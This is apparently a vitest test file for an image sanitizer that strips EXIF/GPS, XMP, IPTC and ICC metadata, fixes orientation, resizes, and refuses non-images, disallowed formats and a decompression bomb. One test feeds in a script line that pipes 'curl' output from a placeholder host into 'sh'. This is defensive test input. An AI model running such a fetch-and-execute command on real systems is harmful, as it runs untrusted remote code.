import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import * as exifr from 'exifr';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { PhotoRejected, photoLimits, sanitizePhoto, type PhotoRejection } from './sanitize-photo';

// Every input is made here rather than committed, so what each one carries is visible in the test.

const cameraModel = 'MizugTestCam Secret-X1';
const gpsAndCamera = {
  IFD0: { Make: 'MizugTestMaker', Model: cameraModel },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '31/1 46/1 0/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '35/1 13/1 0/1',
  },
};
const xmpPacket =
  '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
  '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>XMP Secret Author</dc:creator>' +
  '</rdf:Description></rdf:RDF></x:xmpmeta>';

const solid = (width: number, height: number, background: string) =>
  sharp({ create: { width, height, channels: 3, background } });

const bytesOf = (data: Uint8Array) => Buffer.from(data.buffer, data.byteOffset, data.byteLength);
const contains = (data: Uint8Array, text: string) => bytesOf(data).includes(text, 0, 'latin1');

async function rejectionOf(input: Uint8Array): Promise<PhotoRejection> {
  const error: unknown = await sanitizePhoto(input).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(PhotoRejected);
  return (error as PhotoRejected).reason;
}

/** Asserts that nothing but pixels survived, whatever the format. */
async function expectNoMetadata(output: Uint8Array) {
  const metadata = await sharp(output).metadata();
  expect(metadata.exif).toBeUndefined();
  expect(metadata.xmp).toBeUndefined();
  expect(metadata.iptc).toBeUndefined();
  expect(metadata.icc).toBeUndefined();
  expect(metadata.hasProfile).toBe(false);
  expect(metadata.comments).toBeUndefined();
  expect(metadata.orientation).toBeUndefined();
  // The marker that opens an EXIF block, and with it any GPS IFD, in JPEG APP1 and WebP/PNG chunks.
  expect(contains(output, 'Exif\0\0')).toBe(false);
  expect(contains(output, 'eXIf')).toBe(false);
  expect(contains(output, 'XMP Secret Author')).toBe(false);
}

/** A JPEG segment: marker, big-endian length that counts itself, payload. */
function jpegSegment(marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}

/** A PNG chunk: length, type, data and a CRC that libpng checks. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

// A PNG's signature (8 bytes) and IHDR chunk (25 bytes) come first; new chunks may follow them.
const afterIhdr = 33;

describe('sanitizePhoto', () => {
  it('drops the GPS position and camera make and model from a JPEG', async () => {
    const input = await solid(64, 48, '#808080').withExif(gpsAndCamera).jpeg().toBuffer();
    // Without these the test would pass on an input that never carried anything to strip.
    await expect(exifr.gps(input)).resolves.toMatchObject({ latitude: 31 + 46 / 60 });
    await expect(exifr.parse(input)).resolves.toMatchObject({ Model: cameraModel });
    expect(contains(input, cameraModel)).toBe(true);

    const photo = await sanitizePhoto(input);

    expect(photo.mime).toBe('image/jpeg');
    expect((await sharp(photo.bytes).metadata()).format).toBe('jpeg');
    expect([photo.width, photo.height]).toEqual([64, 48]);
    expect(photo.sha256).toBe(createHash('sha256').update(photo.bytes).digest('hex'));
    await expectNoMetadata(photo.bytes);
    expect(contains(photo.bytes, cameraModel)).toBe(false);
    expect(contains(photo.bytes, 'MizugTestMaker')).toBe(false);
    await expect(exifr.parse(photo.bytes, true)).resolves.toBeUndefined();
  });

  it('drops XMP, IPTC and comment segments from a JPEG', async () => {
    const plain = await solid(16, 16, '#808080').jpeg().toBuffer();
    const iptcByline = Buffer.concat([
      Buffer.from([0x1c, 0x02, 0x50, 0x00, 18]),
      Buffer.from('IPTC Secret Author'),
    ]);
    const iptcSize = Buffer.alloc(4);
    iptcSize.writeUInt32BE(iptcByline.length);
    const input = Buffer.concat([
      plain.subarray(0, 2),
      jpegSegment(0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0${xmpPacket}`)),
      // APP13: a Photoshop resource block whose 0x0404 resource (no name) holds IPTC records.
      jpegSegment(
        0xed,
        Buffer.concat([
          Buffer.from('Photoshop 3.0\x008BIM\x04\x04\0\0', 'latin1'),
          iptcSize,
          iptcByline,
        ]),
      ),
      jpegSegment(0xfe, Buffer.from('COM Secret comment')),
      plain.subarray(2),
    ]);
    const before = await sharp(input).metadata();
    expect(before.xmpAsString).toContain('XMP Secret Author');
    expect(before.iptc).toBeDefined();
    expect(contains(input, 'COM Secret comment')).toBe(true);

    const photo = await sanitizePhoto(input);

    await expectNoMetadata(photo.bytes);
    expect(contains(photo.bytes, 'IPTC Secret Author')).toBe(false);
    expect(contains(photo.bytes, 'COM Secret comment')).toBe(false);
  });

  it('keeps a PNG a PNG without its EXIF, XMP, text or colour profile, converted to sRGB', async () => {
    // Pure green in sRGB, stored as Display P3 values with the P3 profile attached.
    const tagged = await solid(16, 16, '#00ff00')
      .withExif(gpsAndCamera)
      .withXmp(xmpPacket)
      .withIccProfile('p3')
      .png()
      .toBuffer();
    const input = Buffer.concat([
      tagged.subarray(0, afterIhdr),
      pngChunk('tEXt', Buffer.from('Comment\0PNG Secret comment', 'latin1')),
      tagged.subarray(afterIhdr),
    ]);
    const before = await sharp(input).metadata();
    expect([before.exif, before.xmp, before.icc]).not.toContain(undefined);
    expect(before.comments).toEqual([{ keyword: 'Comment', text: 'PNG Secret comment' }]);
    await expect(exifr.gps(input)).resolves.toMatchObject({ latitude: 31 + 46 / 60 });

    const photo = await sanitizePhoto(input);

    expect(photo.mime).toBe('image/png');
    expect((await sharp(photo.bytes).metadata()).format).toBe('png');
    await expectNoMetadata(photo.bytes);
    expect(contains(photo.bytes, cameraModel)).toBe(false);
    expect(contains(photo.bytes, 'PNG Secret comment')).toBe(false);
    // Read untagged, P3's green would be about (117, 251, 76): the pixels were converted, not just untagged.
    const [red, green, blue] = await sharp(photo.bytes).raw().toBuffer();
    expect(red).toBeLessThan(10);
    expect(green).toBeGreaterThan(245);
    expect(blue).toBeLessThan(10);
  });

  it('keeps a WebP a WebP without its EXIF and XMP', async () => {
    const input = await solid(16, 16, '#808080')
      .withExif(gpsAndCamera)
      .withXmp(xmpPacket)
      .webp()
      .toBuffer();
    const before = await sharp(input).metadata();
    expect([before.exif, before.xmp]).not.toContain(undefined);
    expect(contains(input, cameraModel)).toBe(true);

    const photo = await sanitizePhoto(input);

    expect(photo.mime).toBe('image/webp');
    expect((await sharp(photo.bytes).metadata()).format).toBe('webp');
    await expectNoMetadata(photo.bytes);
    expect(contains(photo.bytes, cameraModel)).toBe(false);
  });

  it('turns the pixels upright by the EXIF orientation it then drops', async () => {
    // Stored 40×20, red left and blue right; orientation 6 means "turn 90° clockwise to view".
    const input = await sharp({
      create: { width: 40, height: 20, channels: 3, background: '#0000ff' },
    })
      .composite([
        {
          input: { create: { width: 20, height: 20, channels: 3, background: '#ff0000' } },
          left: 0,
          top: 0,
        },
      ])
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    expect((await sharp(input).metadata()).orientation).toBe(6);

    const photo = await sanitizePhoto(input);

    expect([photo.width, photo.height]).toEqual([20, 40]);
    await expectNoMetadata(photo.bytes);
    const pixels = await sharp(photo.bytes).raw().toBuffer();
    const rgbAt = (x: number, y: number) => [
      ...pixels.subarray((y * 20 + x) * 3, (y * 20 + x) * 3 + 3),
    ];
    const isRed = ([r = 0, g = 0, b = 0]: number[]) => r > 200 && g < 60 && b < 60;
    const isBlue = ([r = 0, g = 0, b = 0]: number[]) => b > 200 && r < 60 && g < 60;
    expect(isRed(rgbAt(10, 5)), 'the left half turned to the top').toBe(true);
    expect(isBlue(rgbAt(10, 35)), 'the right half turned to the bottom').toBe(true);
  });

  it('shrinks the longest edge to maxEdge, keeping the aspect ratio', async () => {
    const { maxEdge } = photoLimits;
    expect(maxEdge).toBe(2560); // the sizes below are chosen to divide evenly by it
    const wide = await sanitizePhoto(await solid(3000, 1200, '#336699').png().toBuffer());
    expect([wide.width, wide.height]).toEqual([2560, 1024]);
    expect((await sharp(wide.bytes).metadata()).width).toBe(2560);

    const tall = await sanitizePhoto(await solid(1000, 4000, '#336699').jpeg().toBuffer());
    expect([tall.width, tall.height]).toEqual([640, 2560]);
  });

  it('never enlarges a small photo', async () => {
    const photo = await sanitizePhoto(await solid(30, 10, '#336699').webp().toBuffer());
    expect([photo.width, photo.height]).toEqual([30, 10]);
  });

  it('refuses text, whatever the file was called, as not an image', async () => {
    // The sanitizer never sees a name: "holiday.jpg" holding a script is judged by its bytes.
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    expect(await rejectionOf(script)).toBe('photo_not_an_image');
    expect(await rejectionOf(Buffer.from('<html><body>hello</body></html>'))).toBe(
      'photo_not_an_image',
    );
    expect(await rejectionOf(new Uint8Array(0))).toBe('photo_not_an_image');
    expect(await rejectionOf(Buffer.from('BM'))).toBe('photo_not_an_image');
  });

  it('refuses bytes that start like a JPEG but do not decode, or stop halfway', async () => {
    const fake = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      Buffer.from('not really a JPEG at all'),
    ]);
    expect(await rejectionOf(fake)).toBe('photo_not_an_image');

    const noise = Buffer.from(Array.from({ length: 64 * 64 * 3 }, (_, i) => (i * 7919) % 251));
    const jpeg = await sharp(noise, { raw: { width: 64, height: 64, channels: 3 } })
      .jpeg()
      .toBuffer();
    expect(await rejectionOf(jpeg.subarray(0, Math.floor(jpeg.length * 0.6)))).toBe(
      'photo_not_an_image',
    );
  });

  it('refuses GIF, SVG, TIFF and AVIF as a type not allowed', async () => {
    const gif = await solid(8, 8, '#808080').gif().toBuffer();
    const tiff = await solid(8, 8, '#808080').tiff().toBuffer();
    const avif = await solid(8, 8, '#808080').avif().toBuffer();
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8"/></svg>',
    );
    const xmlSvg = Buffer.from(`\uFEFF<?xml version="1.0"?>\n<!-- drawn -->\n${svg.toString()}`);

    for (const input of [gif, svg, xmlSvg, tiff, avif]) {
      expect(await rejectionOf(input)).toBe('photo_type_not_allowed');
    }
  });

  it('refuses an upload over maxUploadBytes before looking at its content', async () => {
    expect(await rejectionOf(new Uint8Array(photoLimits.maxUploadBytes + 1))).toBe(
      'photo_too_large',
    );
  });

  it('refuses a small file that declares more than maxPixels (a decompression bomb)', async () => {
    const side = Math.ceil(Math.sqrt(photoLimits.maxPixels)) + 1;
    const tiny = Buffer.from(await solid(1, 1, '#000000').png().toBuffer());
    // Rewrite IHDR's width and height (and its CRC); the pixel data never gets decoded.
    tiny.writeUInt32BE(side, 16);
    tiny.writeUInt32BE(side, 20);
    tiny.writeUInt32BE(crc32(tiny.subarray(12, 29)), 29);
    const header = await sharp(tiny, { limitInputPixels: false }).metadata();
    expect(header.width * header.height).toBeGreaterThan(photoLimits.maxPixels);

    expect(await rejectionOf(tiny)).toBe('photo_too_large');
  });
});
